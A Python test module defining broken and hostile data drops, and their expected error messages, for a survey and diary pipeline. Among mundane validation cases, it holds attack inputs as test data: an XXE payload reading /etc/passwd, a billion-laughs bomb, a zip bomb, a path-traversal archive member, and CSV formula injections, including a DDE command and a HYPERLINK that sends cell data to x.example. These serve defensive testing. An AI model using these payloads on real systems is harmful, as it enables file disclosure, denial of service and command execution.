"""A corpus of broken and hostile drops: each case breaks a copy of the example drop in one
way and says what the terminal must show. ``test_bad_drops.py`` runs them.

A case is declared by the file it breaks, how (one of the edits below, applied to the
example drop), and the fragments its message must hold. Cases with ``accepted=True`` are
quirks the pipeline must take in its stride (BOMs, declared code pages, Excel artefacts,
references that differ only by case or spaces): they share one drop that must publish.
"""

from __future__ import annotations

import csv
import io
import random
import shutil
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from .helpers import ROOT

Edit = Callable[[Path], None]

# The corpus run's limit (limits: max_file_mb): low enough for cheap oversized files, above
# every example file and above the 1 MiB below which a .qdpx member is never a zip bomb.
MAX_FILE_MB = 2
STRANGER = "stranger.s@nhs.net"  # a participant_ref no message may echo


# --------------------------------------------------------------------------- edits


def _read_rows(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding), newline="")))


def _write_rows(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))


def cell(name: str, row: int, column: str, value: str) -> Edit:
    """Set the cell at spreadsheet ``row`` (header = 1) under header ``column``."""

    def edit(drop: Path) -> None:
        rows = _read_rows(drop / name)
        rows[row - 1][rows[0].index(column)] = value
        _write_rows(drop / name, rows)

    return edit


def column(name: str, index: int, values: Callable[[list[str]], str]) -> Edit:
    """Set every cell of column ``index`` (0-based) to ``values(row)``."""

    def edit(drop: Path) -> None:
        rows = _read_rows(drop / name)
        for row in rows:
            row[index] = values(row)
        _write_rows(drop / name, rows)

    return edit


def rows(name: str, change: Callable[[list[list[str]]], list[list[str]]]) -> Edit:
    """Replace the file's rows (header first) by ``change(rows)``."""

    def edit(drop: Path) -> None:
        _write_rows(drop / name, change(_read_rows(drop / name)))

    return edit


def content(name: str, data: bytes | Callable[[bytes], bytes]) -> Edit:
    """Replace the file's bytes (or transform them)."""

    def edit(drop: Path) -> None:
        path = drop / name
        path.write_bytes(data(path.read_bytes()) if callable(data) else data)

    return edit


def encoded(name: str, encoding: str, bom: bytes = b"") -> Edit:
    """Re-encode a UTF-8 file."""

    def edit(drop: Path) -> None:
        text = (drop / name).read_text(encoding="utf-8")
        (drop / name).write_bytes(bom + text.encode(encoding))

    return edit


def remove(name: str) -> Edit:
    def edit(drop: Path) -> None:
        (drop / name).unlink()

    return edit


def settings(text: str) -> Edit:
    """Append to the drop's drop.yaml."""

    def edit(drop: Path) -> None:
        with open(drop / "drop.yaml", "a", encoding="utf-8") as handle:
            handle.write(text)

    return edit


def xlsx(
    name: str,
    *,
    title: str | None = None,
    merge_header: bool = False,
    sheets: dict[str, list[list[str]]] | None = None,
    trailing: int = 0,
) -> Edit:
    """Save ``name``.csv as ``name``.xlsx the way Excel users leave it: an optional title row
    above the header, the last two header cells merged, more sheets, ``trailing`` empty rows
    and columns with formatting (openpyxl writes them as cells)."""

    def edit(drop: Path) -> None:
        import openpyxl
        from openpyxl.styles import Font

        table = _read_rows(drop / f"{name}.csv")
        (drop / f"{name}.csv").unlink()
        book = openpyxl.Workbook()
        sheet = book.active
        sheet.title = "Responses"
        if title:
            sheet.append([title])
        for row in table:
            sheet.append([_number(v) for v in row])
        if merge_header:
            header = 2 if title else 1
            sheet.merge_cells(start_row=header, start_column=2, end_row=header, end_column=3)
        for k in range(trailing):  # formatted but empty: Excel keeps them in the sheet
            sheet.cell(row=len(table) + 1 + k + 1, column=1).font = Font(bold=True)
            sheet.cell(row=1, column=len(table[0]) + 1 + k).font = Font(bold=True)
        for other, cells in (sheets or {}).items():
            extra = book.create_sheet(other)
            for row in cells:
                extra.append(row)
        book.save(drop / f"{name}.xlsx")

    return edit


def _number(value: str) -> object:
    return int(value) if value.isdigit() else value


def both(*edits: Edit) -> Edit:
    def edit(drop: Path) -> None:
        for one in edits:
            one(drop)

    return edit


def _exported_calendars(drop: Path, form: str) -> Path:
    """Replace the drop's activity diary by its calendar exports (``outlook`` CSV or ``ics``
    files, one per participant, as the simulator writes them); return the first file."""
    from cohort_eval.simulate import reexpress_drop

    with tempfile.TemporaryDirectory() as tmp:
        reexpress_drop(drop, tmp, form, "none", ROOT)
        shutil.copytree(Path(tmp) / "calendars", drop / "calendars")
    (drop / DIARY).unlink()
    return sorted((drop / "calendars").iterdir())[0]


def calendars(change: Callable[[list[list[str]]], list[list[str]]], encoding: str = "") -> Edit:
    """Outlook calendar exports instead of the activity diary, ``change`` applied to the rows
    of the first one, which is written back with a UTF-8 BOM as Outlook does (or in
    ``encoding``, without a BOM)."""

    def edit(drop: Path) -> None:
        first = _exported_calendars(drop, "outlook")
        table = change(_read_rows(first, "utf-8-sig"))
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows(table)
        first.write_bytes(buffer.getvalue().encode(encoding or "utf-8-sig"))

    return edit


def _event(column: str, value: str, row: int = 3) -> Callable[[list[list[str]]], list[list[str]]]:
    def change(table: list[list[str]]) -> list[list[str]]:
        table[row - 1][table[0].index(column)] = value
        return table

    return change


def ics_calendars(old: str, new: str) -> Edit:
    """iCalendar exports instead of the activity diary, the first ``old`` of the first one
    replaced by ``new``."""

    def edit(drop: Path) -> None:
        first = _exported_calendars(drop, "ics")
        text = first.read_text(encoding="utf-8")
        assert old in text
        first.write_text(text.replace(old, new, 1), encoding="utf-8")

    return edit


# .qdpx archives: built from scratch (the archive is refused before its project is read).

PROJECT = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    '<Project xmlns="urn:QDA-XML:project:1.0" name="diaries"><Sources/></Project>'
)


def qdpx(members: dict[str, bytes | str]) -> Edit:
    def edit(drop: Path) -> None:
        (drop / "diary_segments.csv").unlink()
        with zipfile.ZipFile(drop / "diary_segments.qdpx", "w", zipfile.ZIP_DEFLATED) as zf:
            for member, data in members.items():
                zf.writestr(member, data)

    return edit


def _wordy(size: int) -> bytes:
    """Text that packs about three times, like real prose (so not a zip bomb)."""
    words = [f"w{random.Random(size).randrange(10**6)}" for _ in range(4000)]
    pick = random.Random(7)
    out = bytearray()
    while len(out) < size:
        out += pick.choice(words).encode() + b" "
    return bytes(out[:size])


XXE = (
    '<?xml version="1.0"?>\n<!DOCTYPE Project [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    '<Project xmlns="urn:QDA-XML:project:1.0" name="&x;"/>'
)
LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE Project [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + k)} "{("&" + chr(97 + k) + ";") * 10}">' for k in range(9))
    + ']>\n<Project xmlns="urn:QDA-XML:project:1.0" name="&j;"/>'
)


# --------------------------------------------------------------------------- cases


@dataclass(frozen=True)
class Case:
    """One broken (or, if ``accepted``, merely awkward) drop.

    ``name`` names the case (and the cohort of the drop holding it first); ``file`` is the
    drop file the message names (relative to the drop); ``expect`` fragments of its message;
    ``edit`` makes the case from the example. ``shares_file`` cases change only cells of rows
    of their own, so several of them can share one file (each still names its own row and
    value); the others change the file as a whole and have it to themselves.
    """

    name: str
    file: str
    edit: Edit
    expect: tuple[str, ...]
    shares_file: bool = False
    hidden: tuple[str, ...] = field(default=())  # values the terminal must not show

    @property
    def input(self) -> str:
        """The raw input the case breaks (one file of each in a drop)."""
        stem = self.file.split("/")[0].split(".")[0]
        if stem == "calendars":
            return "activity_diary"
        return "diary_segments" if stem.startswith("diary_segments") else stem


def _header_only(table: list[list[str]]) -> list[list[str]]:
    return table[:1]


def _all_withdrawn(table: list[list[str]]) -> list[list[str]]:
    status = table[0].index("status")
    return [table[0]] + [[*r[:status], "withdrawn", *r[status + 1 :]] for r in table[1:]]


def _drop_column(header: str) -> Callable[[list[list[str]]], list[list[str]]]:
    def change(table: list[list[str]]) -> list[list[str]]:
        k = table[0].index(header)
        return [r[:k] + r[k + 1 :] for r in table]

    return change


def _add_column(header: str, value: str) -> Callable[[list[list[str]]], list[list[str]]]:
    return lambda table: [table[0] + [header]] + [r + [value] for r in table[1:]]


def _repeat_row(source: int, ref: str) -> Callable[[list[list[str]]], list[list[str]]]:
    return lambda table: table + [[ref, *table[source - 1][1:]]]


def _title(text: str) -> Callable[[bytes], bytes]:
    return lambda data: text.encode() + b",,,\n" + data


ROSTER = "roster.csv"
PRE, POST = "survey_pre.csv", "survey_post.csv"
DIARY, SEGMENTS = "activity_diary.csv", "diary_segments.csv"
QDPX = "diary_segments.qdpx"
WINDOW = "2023-09-04 to 2024-03-03"
SCALE = "an answer 1-5 or a scale label"
HOURS = "hours more than 0 and at most 24"
DATE = "a date written as 2023-09-18 or in the drop's date_format '%d/%m/%Y'"
PERSONAL = "(values not shown: personal data)"

CASES = [
    # roster.csv: checked first; while it fails nothing else is checked.
    Case("roster-empty", ROSTER, content(ROSTER, b""), ("the file is empty",)),
    Case(
        "roster-header-only",
        ROSTER,
        rows(ROSTER, _header_only),
        ("expected at least one participant row; found 0",),
    ),
    Case(
        "roster-missing-column",
        ROSTER,
        rows(ROSTER, _drop_column("email")),
        ("expected every required column", "missing: email"),
    ),
    Case(
        "roster-duplicate-column",
        ROSTER,
        rows(ROSTER, _add_column("Status", "active")),
        ("2 of 9 columns fail; expected each column only once", "row 1, column 9: 'Status'"),
    ),
    Case(
        "roster-no-active",
        ROSTER,
        rows(ROSTER, _all_withdrawn),
        ("expected at least one participant with status active",),
    ),
    Case(
        "roster-ref-twice",
        ROSTER,
        cell(ROSTER, 4, "participant_ref", " AMELIA.Hartley@nhs.net "),
        (
            "2 of 7 rows fail; expected each participant_ref only once (ignoring case and spaces)",
            f"row 2, column participant_ref; row 4, column participant_ref {PERSONAL}",
        ),
        hidden=("AMELIA.Hartley",),
        shares_file=True,
    ),
    Case(
        "roster-blank-name",
        ROSTER,
        cell(ROSTER, 3, "name", " "),
        (f"expected a name on every row. row 3, column name {PERSONAL}",),
        shares_file=True,
    ),
    Case(
        "roster-bad-email",
        ROSTER,
        cell(ROSTER, 8, "email", "helen.mcbride at nhs.net"),
        ("an e-mail address such as someone@nhs.net", f"row 8, column email {PERSONAL}"),
        hidden=("mcbride at",),
        shares_file=True,
    ),
    Case(
        "roster-status",
        ROSTER,
        cell(ROSTER, 5, "status", "gone"),
        ("expected a status of active or withdrawn. row 5, column status: 'gone'",),
        shares_file=True,
    ),
    Case(
        "roster-years",
        ROSTER,
        cell(ROSTER, 6, "years_registered", "sixty"),
        ("years_registered as a number of years", "row 6, column years_registered: 'sixty'"),
        shares_file=True,
    ),
    Case(
        "roster-cp1252",
        ROSTER,
        both(cell(ROSTER, 4, "name", "Siobhán O'Connell"), encoded(ROSTER, "cp1252")),
        ("cannot read the file as utf-8 text (byte 0xe1 on line 4)", "encoding: cp1252"),
    ),
    Case(
        "roster-utf16",
        ROSTER,
        encoded(ROSTER, "utf-16-le"),
        ("the file holds NUL bytes (the first on line 1)", "encoding: utf-16-le"),
    ),
    Case(
        "roster-title-row",
        ROSTER,
        content(ROSTER, _title("Fellows 2023-24")),
        ("row 1 is not the header row", "row 2 looks like the header"),
    ),
    # The surveys (survey_pre and survey_post are separate inputs).
    Case(
        "likert-zero",
        POST,
        cell(POST, 3, "Confidence in chairing meetings and facilitating group discussions", "0"),
        (f"answers fail; expected {SCALE}", "row 3, column COM04: '0'"),
        shares_file=True,
    ),
    Case(
        "likert-six",
        PRE,
        cell(PRE, 2, "NET01", "6"),
        (f"answers fail; expected {SCALE}", "row 2, column NET01: '6'"),
        shares_file=True,
    ),
    Case(
        "likert-half",
        PRE,
        cell(PRE, 4, "MAN20", "3.5"),
        ("row 4, column MAN20: '3.5'",),
        shares_file=True,
    ),
    Case(
        "likert-label",
        POST,
        cell(
            POST,
            5,
            "Confidence in chairing meetings and facilitating group discussions",
            "Not sure",
        ),
        ("row 5, column COM04: 'Not sure'",),
        shares_file=True,
    ),
    Case(
        "survey-twice",
        POST,
        rows(POST, _repeat_row(2, "AMELIA.HARTLEY@nhs.net")),
        (
            "expected one row per participant",
            f"row 2, column participant_ref; row 8, column participant_ref {PERSONAL}",
        ),
        hidden=("AMELIA.HARTLEY",),
        shares_file=True,
    ),
    Case(
        "survey-stranger",
        PRE,
        rows(PRE, _repeat_row(3, STRANGER)),
        (
            "expected a participant_ref listed in roster.csv. "
            f"row 9, column participant_ref {PERSONAL}",
        ),
        hidden=(STRANGER,),
        shares_file=True,
    ),
    Case(
        "survey-missing-statement",
        PRE,
        rows(PRE, _drop_column("MAN20")),
        ("expected every required column", "missing: MAN20"),
    ),
    Case(
        "survey-statement-twice",
        POST,
        rows(POST, lambda t: [[*t[0][:2], "COM01", *t[0][3:]], *t[1:]]),
        ("expected each column only once", "row 1, column 3: 'COM01'", "missing: COM02"),
    ),
    Case(
        "survey-unknown-column",
        PRE,
        rows(PRE, _add_column("Submitted at", "2023-09-04 10:00")),
        ("expected only the contract's columns", "'Submitted at'"),
    ),
    Case(
        "survey-header-only",
        POST,
        rows(POST, _header_only),
        ("expected at least one respondent row; found 0",),
    ),
    Case(
        "survey-xlsx-title",
        "survey_pre.xlsx",
        xlsx("survey_pre", title="Confidence survey, September 2023"),
        ("row 1 is not the header row", "row 2 looks like the header"),
    ),
    Case(
        "survey-xlsx-merged",
        "survey_post.xlsx",
        xlsx("survey_post", merge_header=True),
        ("merged cells in the header row (B1:C1)", "one header cell per column"),
    ),
    Case(
        "survey-xlsx-sheets",
        "survey_pre.xlsx",
        xlsx("survey_pre", sheets={"Sheet2": [], "Late replies": [["amelia", 3]]}),
        ("data on more than one sheet", "sheet 3 ('Late replies') also holds data"),
    ),
    Case(
        "survey-xlsx-broken",
        "survey_post.xlsx",
        both(remove(POST), content("survey_post.xlsx", b"participant_ref,COM01\n")),
        ("not a readable Excel .xlsx file",),
    ),
    Case(
        "survey-too-big",
        PRE,
        content(PRE, lambda data: data + b"\n" * 2_500_000),
        ("the file is 2.5 MB, larger than the limit of 2.0 MB", "limits: max_file_mb"),
    ),
    # activity_diary: the table, or Outlook calendars.
    Case(
        "hours-negative",
        DIARY,
        cell(DIARY, 5, "hours", "-1.5"),
        (HOURS, "row 5, column hours: '-1.5'"),
        shares_file=True,
    ),
    Case(
        "hours-zero",
        DIARY,
        cell(DIARY, 6, "hours", "0"),
        (HOURS, "row 6, column hours: '0'"),
        shares_file=True,
    ),
    Case(
        "hours-thirty",
        DIARY,
        cell(DIARY, 7, "hours", "30"),
        (HOURS, "row 7, column hours: '30'"),
        shares_file=True,
    ),
    Case(
        "hours-comma",
        DIARY,
        cell(DIARY, 8, "hours", "1,5"),
        ("hours as a number, e.g. 1.5. row 8, column hours: '1,5'",),
        shares_file=True,
    ),
    Case(
        "category-unknown",
        DIARY,
        cell(DIARY, 9, "category", "Lunch"),
        ("a category or alias listed in config/activities.yaml. row 9, column category: 'Lunch'",),
        shares_file=True,
    ),
    Case(
        "dates-mixed",
        DIARY,
        both(cell(DIARY, 10, "date", "09/18/2023"), cell(DIARY, 11, "date", "18 Sep 2023")),
        (DATE, "row 10, column date: '09/18/2023'; row 11, column date: '18 Sep 2023'"),
        shares_file=True,
    ),
    Case(
        "dates-excel-serial",
        DIARY,
        cell(DIARY, 12, "date", "45187"),
        (DATE, "row 12, column date: '45187'"),
        shares_file=True,
    ),
    Case(
        "date-outside",
        DIARY,
        both(cell(DIARY, 2, "date", "03/09/2023"), cell(DIARY, 3, "date", "2024-03-04")),
        (
            f"a date inside the secondment, {WINDOW}",
            "row 2, column date: '03/09/2023'; row 3, column date: '2024-03-04'",
        ),
        shares_file=True,
    ),
    Case(
        "diary-stranger",
        DIARY,
        cell(DIARY, 13, "participant_ref", STRANGER),
        (f"a participant_ref listed in roster.csv. row 13, column participant_ref {PERSONAL}",),
        hidden=(STRANGER,),
        shares_file=True,
    ),
    Case(
        "diary-too-big",
        DIARY,
        content(DIARY, lambda data: data * 14),
        ("larger than the limit of 2.0 MB",),
    ),
    Case(
        "calendar-category",
        "calendars",
        calendars(_event("Categories", "Lunch")),
        ("calendars file 1 of 7: category 'Lunch' is not in config/activities.yaml", "row 3"),
    ),
    Case(
        "calendar-backwards",
        "calendars",
        calendars(_event("End Time", "00:30:00")),
        ("calendars file 1 of 7: row 3: the event ends (2023-09-04 00:30) before it starts",),
    ),
    Case(
        "calendar-utf16",
        "calendars",
        calendars(lambda table: table, encoding="utf-16-le"),
        ("calendars file 1 of 7: the file holds NUL bytes",),
    ),
    Case(
        "calendar-ics-category",
        "calendars",
        ics_calendars("CATEGORIES:", "CATEGORIES:Lunch,"),
        ("calendars file 1 of 7: category 'Lunch' is not in config/activities.yaml",),
    ),
    # diary_segments: the table, or a tool's export.
    Case(
        "code-unknown",
        SEGMENTS,
        cell(SEGMENTS, 4, "code", "X99"),
        ("a code id, label or alias listed in config/codebook.yaml. row 4, column code: 'X99'",),
        shares_file=True,
    ),
    Case(
        "segment-blank",
        SEGMENTS,
        cell(SEGMENTS, 5, "segment", ""),
        (f"the coded text on every row. row 5, column segment {PERSONAL}",),
        shares_file=True,
    ),
    Case(
        "segment-outside",
        SEGMENTS,
        cell(SEGMENTS, 6, "entry_date", "2024-05-01"),
        (f"an entry_date inside the secondment, {WINDOW}. row 6, column entry_date: '2024-05-01'",),
        shares_file=True,
    ),
    Case(
        "exemplar-unknown",
        SEGMENTS,
        cell(SEGMENTS, 7, "exemplar", "maybe"),
        ("exemplar as yes/no", "row 7, column exemplar: 'maybe'"),
        shares_file=True,
    ),
    Case(
        "qdpx-zip-bomb",
        QDPX,
        qdpx({"project.qde": PROJECT, "sources/a.txt": b"\0" * 1_500_000}),
        ("'sources/a.txt' declares 1,500,000 bytes unpacked", "possible zip bomb"),
    ),
    Case(
        "qdpx-escape",
        QDPX,
        qdpx({"project.qde": PROJECT, "../../escaped.txt": "gotcha"}),
        ("'../../escaped.txt' has a path that would leave the archive", "nothing was read"),
    ),
    Case(
        "qdpx-xxe",
        QDPX,
        qdpx({"project.qde": XXE}),
        ("DOCTYPE or ENTITY declaration", "external entities"),
    ),
    Case(
        "qdpx-laughs",
        QDPX,
        qdpx({"project.qde": LAUGHS}),
        ("DOCTYPE or ENTITY declaration", "billion laughs"),
    ),
    Case(
        "qdpx-big-member",
        QDPX,
        qdpx({"project.qde": PROJECT, "sources/a.txt": _wordy(2_500_000)}),
        ("'sources/a.txt' declares 2,500,000 bytes unpacked", "limits: max_file_mb"),
    ),
    Case(
        "qualcoder-code",
        "diary_segments_qualcoder.csv",
        both(
            remove(SEGMENTS),
            content(
                "diary_segments_qualcoder.csv",
                b"File/case,Coder,Coded,Id,Codename,Coded_Memo\n"
                b"amelia.hartley@nhs.net_2023-09-08,R1,Felt lost,1,Lunch break,\n",
            ),
        ),
        ("1 code used in the coding", "'Lunch break'"),
    ),
    Case(
        "taguette-code",
        "diary_segments_taguette.csv",
        both(
            remove(SEGMENTS),
            content(
                "diary_segments_taguette.csv",
                b"id,document,tag,content\n1,amelia.hartley@nhs.net_2023-09-08,Lunch,Felt lost\n",
            ),
        ),
        ("'Lunch'",),
    ),
    Case(
        "qdpx-not-zip",
        QDPX,
        both(remove(SEGMENTS), content(QDPX, b"<Project/>")),
        ("not a REFI-QDA project", "not a readable zip"),
    ),
]

# Quirks a drop may have that must not stop it: one drop holds them all and must publish.
QUIRKS = "quirks"
FORMULAS = ('=HYPERLINK("http://x.example/?"&A1)', "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0")


def _quirky_roster(table: list[list[str]]) -> list[list[str]]:
    table[1][0] = " Amelia.Hartley@NHS.net "  # matched by case and spaces, not a new person
    table[7][table[0].index("email")] = ""  # an empty e-mail is allowed
    return table


def _quirky_pre(table: list[list[str]]) -> list[list[str]]:
    table = [r for r in table if r[0] != "rachel.okafor@nhs.net"]  # post without pre
    table[2][1] = ""  # a blank answer is a missing answer
    return table


def _quirky_post(table: list[list[str]]) -> list[list[str]]:
    table[0].append("Comment: what has changed?")
    for k, row in enumerate(table[1:]):
        row.append(FORMULAS[k % len(FORMULAS)])
    return table


def _quirky_diary(table: list[list[str]]) -> list[list[str]]:
    table[1][0] = "AMELIA.HARTLEY@nhs.net"
    table[2][-1] = "Café meeting " + FORMULAS[0]
    table[3][-1] = FORMULAS[3]
    return table


def _quirky_segments(table: list[list[str]]) -> list[list[str]]:
    table[1][0] = "amelia.hartley @nhs.net"
    table[2][3] = FORMULAS[1]
    return table


QUIRK_EDITS = both(
    rows(ROSTER, _quirky_roster),
    encoded(ROSTER, "utf-8", bom=b"\xef\xbb\xbf"),
    rows(PRE, _quirky_pre),
    xlsx("survey_pre", trailing=3, sheets={"Sheet2": [], "Sheet3": []}),
    rows(POST, _quirky_post),
    encoded(POST, "utf-16"),  # with its BOM
    rows(DIARY, _quirky_diary),
    encoded(DIARY, "cp1252"),
    settings("encoding: cp1252\n"),
    rows(SEGMENTS, _quirky_segments),
    encoded(SEGMENTS, "utf-8", bom=b"\xef\xbb\xbf"),
)

# Problems found when Snakemake starts: each needs a run of its own. name -> (edit of the
# configuration's cohorts, edit of the drop, fragments).
STARTUP = {
    "cohort-id": ("North 2024", None, ("the cohort id 'North 2024' is not allowed", "lower-case")),
    "no-survey-post": (
        "no-post",
        remove(POST),
        ("the drop drops/no-survey-post has no survey_post.csv or survey_post.xlsx",),
    ),
    "two-forms": (
        "two-forms",
        content("survey_pre.xlsx", b""),
        ("the drop drops/two-forms holds both survey_pre.csv and survey_pre.xlsx; keep one",),
    ),
}


def shared_drops(cases: list[Case]) -> dict[str, list[Case]]:
    """Cohort id -> the cases its drop holds. A drop holds one file of each raw input: one
    case that changes the whole file, or every ``shares_file`` case of that file. Nothing
    else is checked while the roster fails, so a broken roster is a drop of its own. A drop
    is named after its first case."""
    units: list[list[Case]] = []
    sharing: dict[str, list[Case]] = {}
    for case in cases:
        if case.shares_file and case.file in sharing:
            sharing[case.file].append(case)
            continue
        units.append([case])
        if case.shares_file:
            sharing[case.file] = units[-1]
    drops: list[list[Case]] = []
    for unit in units:
        roster = unit[0].input == "roster"
        for held in drops:
            if not roster and held[0].input != "roster":
                if unit[0].input not in {c.input for c in held}:
                    held.extend(unit)
                    break
        else:
            drops.append(list(unit))
    return {held[0].name: held for held in drops}
